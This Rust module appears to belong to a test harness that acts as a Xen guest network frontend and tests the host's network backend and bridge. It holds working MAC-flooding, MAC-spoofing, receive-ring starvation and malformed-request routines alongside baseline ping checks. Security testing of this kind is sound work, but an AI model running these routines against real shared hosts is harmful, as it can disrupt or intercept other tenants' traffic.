//! Frames that are well formed, and what they carry or how many they are.

use alloc::format;
use alloc::string::String;
use core::time::Duration;

use xen::time;
use xen_sys::netif::TxRequest;

use super::Attack;
use crate::Result;
use crate::frame::{self, BROADCAST, EXPERIMENT, Mac, Random};
use crate::front::Front;
use crate::vif::state;

/// Behaves well: asks who has the peer's address, and pings it.
pub(super) async fn none(attack: &Attack<'_>) -> Result<String> {
    let mut front = attack.connect().await?;
    front.offer(0, 256);
    let pongs = talk(attack, &mut front).await?;
    Ok(format!("pongs {pongs}, {}", front.told()))
}

/// The same, and looks at what it was not sent.
pub(super) async fn padding(attack: &Attack<'_>) -> Result<String> {
    let mut front = attack.connect().await?;
    front.strict = true;
    front.offer(0, 256);
    let pongs = talk(attack, &mut front).await?;
    // Requests that are answered with an error too, where the port survives one.
    front.put(&[TxRequest { gref: u32::MAX, offset: 0, flags: 0, id: 1, size: 60 }.to_slot()]);
    front.kick();
    front.settle(Duration::from_secs(1)).await?;
    Ok(format!("pongs {pongs}, {}", front.told()))
}

async fn talk(attack: &Attack<'_>, front: &mut Front) -> Result<u32> {
    let me = (attack.vif.mac, attack.settings.me);
    let (mut peer, mut pongs) = (None, 0);
    for round in 0..50u16 {
        match peer {
            None => front.send_frame(round.into(), &frame::arp_request(me.0, me.1, attack.settings.peer)),
            Some(mac) => front.send_frame(round.into(), &frame::ping(me, (mac, attack.settings.peer), round)),
        }
        time::sleep(Duration::from_millis(100)).await;
        front.reap(true, |octets| {
            peer = peer.or(frame::arp_reply(octets, attack.settings.peer));
            pongs += u32::from(frame::is_pong(octets));
        })?;
        if pongs >= 10 {
            break;
        }
    }
    Ok(pongs)
}

/// Offers only so many pages for received frames and never takes one out, while others send to it.
pub(super) async fn no_rx(attack: &Attack<'_>, pages: usize) -> Result<String> {
    let mut front = attack.connect().await?;
    front.offer(0, pages);
    let hello = frame::ethernet(BROADCAST, attack.vif.mac, EXPERIMENT, &[]);
    while attack.goes_on() {
        // Everybody knows where it is.
        front.send_frame(0, &hello);
        time::sleep(Duration::from_millis(200)).await;
        while front.tx.pending().map_err(|e| format!("{e}"))? > 0 {
            front.tx.take();
        }
    }
    Ok(format!("waiting in the ring {}", front.rx.pending().map_err(|e| format!("{e}"))?))
}

/// Sends as fast as it can what `make` makes of each number, `count` times or for the time given.
/// Returns how many went into the ring.
async fn pour(
    attack: &Attack<'_>,
    front: &mut Front,
    count: u32,
    mut make: impl FnMut(u32, &mut [u8; 64]),
) -> Result<u32> {
    let mut octets = [0; 64];
    octets[12..14].copy_from_slice(&EXPERIMENT.to_be_bytes());
    let mut sent = 0;
    let mut idle = 0;
    while sent < count && idle < 100 {
        let room = front.tx.free().min(64).min(count - sent);
        for _ in 0..room {
            make(sent, &mut octets);
            // A data page for each slot of the ring in turn: 64 octets of 64 pages, by turns.
            let slot = front.tx.next_slot() as usize;
            let (page, part) = (slot % 64, (slot / 64) * 64);
            if let Some(data) = front.data.get(page) {
                data.fill(part, &octets);
                let request = TxRequest {
                    gref: data.gref().0,
                    offset: part as u16,
                    flags: 0,
                    id: slot as u16,
                    size: octets.len() as u16,
                };
                front.put(&[request.to_slot()]);
            }
            sent += 1;
        }
        front.kick();
        front.reap(true, |_| {})?;
        if room == 0 {
            idle += 1;
            time::sleep(Duration::from_millis(5)).await;
            if idle % 20 == 0 && attack.vif.backend_state().await != state::CONNECTED {
                break;
            }
        } else {
            idle = 0;
        }
    }
    front.settle(Duration::from_secs(1)).await?;
    Ok(sent)
}

fn set(octets: &mut [u8; 64], dst: Mac, src: Mac) {
    octets[..6].copy_from_slice(&dst);
    octets[6..12].copy_from_slice(&src);
}

/// Frames that can go nowhere: what is said to the bridge alone, frames from groups, to oneself.
pub(super) async fn drops(attack: &Attack<'_>) -> Result<String> {
    let mut front = attack.connect().await?;
    let mac = attack.vif.mac;
    let sent = pour(attack, &mut front, attack.settings.count, |n, octets| match n % 4 {
        0 => set(octets, [1, 0x80, 0xc2, 0, 0, 0], mac),
        1 => set(octets, attack.settings.victim, [1, 0, 0x5e, 0, 0, 1]),
        2 => set(octets, mac, mac),
        _ => set(octets, attack.settings.victim, [0; 6]),
    });
    let sent = sent.await?;
    Ok(format!("sent {sent}, {}", front.told()))
}

/// A new source with each frame.
pub(super) async fn mac_flood(attack: &Attack<'_>) -> Result<String> {
    let mut front = attack.connect().await?;
    let mut random = Random::new(3);
    let sent = pour(attack, &mut front, attack.settings.count, |_, octets| {
        let [a, b, c, d, e, ..] = random.next().to_le_bytes();
        set(octets, attack.settings.victim, [2, a, b, c, d, e]);
    });
    let sent = sent.await?;
    Ok(format!("sent {sent}, {}", front.told()))
}

/// Claims to be the victim, everybody and nobody.
pub(super) async fn mac_spoof(attack: &Attack<'_>) -> Result<String> {
    let mut front = attack.connect().await?;
    front.offer(0, 256);
    let sources = [attack.settings.victim, BROADCAST, [0; 6], [1, 0, 0x5e, 0, 0, 1]];
    let mut sent = 0;
    while attack.goes_on() {
        sent += pour(attack, &mut front, 64, |n, octets| {
            let destination = if n & 4 == 0 { BROADCAST } else { [2, 9, 9, 9, 9, 9] };
            set(octets, destination, sources[n as usize % 4]);
        })
        .await?;
        // What is sent to the victim must not come here.
        front.linger(Duration::from_millis(50)).await?;
    }
    Ok(format!("sent {sent}, {}", front.told()))
}
